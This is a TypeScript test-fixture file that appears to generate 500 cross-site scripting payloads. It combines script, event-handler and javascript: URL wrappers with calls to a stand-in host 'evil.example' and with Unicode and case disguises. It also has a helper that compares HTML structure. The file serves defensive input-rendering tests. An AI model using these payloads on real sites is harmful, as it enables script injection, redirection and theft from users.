/* Values that a hostile seller may write into every field, and a comparison of documents without their texts. */

/**
 * Returns the structure of a document, without the text between tags and without attribute values. React preloads
 * pictures, except those whose address contains their data.
 */
export const skeleton = (html: string): string =>
  (
    html
      .replace(
        /<link rel="preload" as="image"( (href|imageSrcSet|imageSizes|type|fetchPriority)="[^"]*")+\/>/g,
        '',
      )
      .match(/<[^>]*>/g) ?? []
  )
    .map((tag) => tag.replace(/"[^"]*"/g, '""'))
    .join('\n')

const RUNS = [
  'alert(1)',
  'fetch("//evil.example")',
  'location="//evil.example"',
  'import("//evil.example/x.js")',
]
const WRAPS: readonly ((run: string) => string)[] = [
  (run) => `<script>${run}</script>`,
  (run) => `</script><script>${run}</script>`,
  (run) => `<!--<script>${run}//-->`,
  (run) => `"><script>${run}</script>`,
  (run) => `'><img src=x onerror=${run}>`,
  (run) => `" onerror="${run}`,
  (run) => `' onload='${run}`,
  (run) => `" onfocus=${run} autofocus x="`,
  (run) => `javascript:${run}`,
  (run) => `JaVa\tScRiPt:${run}`,
  (run) => `data:text/html,<script>${run}</script>`,
  (run) => `<svg/onload=${run}>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `</style><script>${run}</script>`,
  (run) => `</title><script>${run}</script>`,
  (run) => `</textarea><script>${run}</script>`,
  (run) => `</noscript><script>${run}</script>`,
  (run) => `</template><script>${run}</script>`,
  (run) => `<iframe srcdoc="<script>${run}</script>">`,
  (run) => `<base href="//evil.example/"><script>${run}</script>`,
  (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  (run) => `<form action="javascript:${run}"><button>`,
  (run) => `<a href="javascript:${run}">x</a>`,
  (run) => `<object data="javascript:${run}">`,
  (run) => `<details open ontoggle=${run}>`,
]
const DISGUISES: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase(),
  (text) => `\u202E${text}`,
  (text) => `${text}\u2028`,
  (text) => `${text.replaceAll('<', '<\u200B<')}\u200B`,
]
/** 500 texts that would run, lead or draw something where a page took them for more than text. */
export const HOSTILE_PAYLOADS = RUNS.flatMap((run) =>
  WRAPS.flatMap((wrap) => DISGUISES.map((disguise) => disguise(wrap(run)))),
)

/** The payload of a place; after the last one the first comes again. */
export function hostilePayload(place: number): string {
  return HOSTILE_PAYLOADS[place % HOSTILE_PAYLOADS.length] ?? ''
}
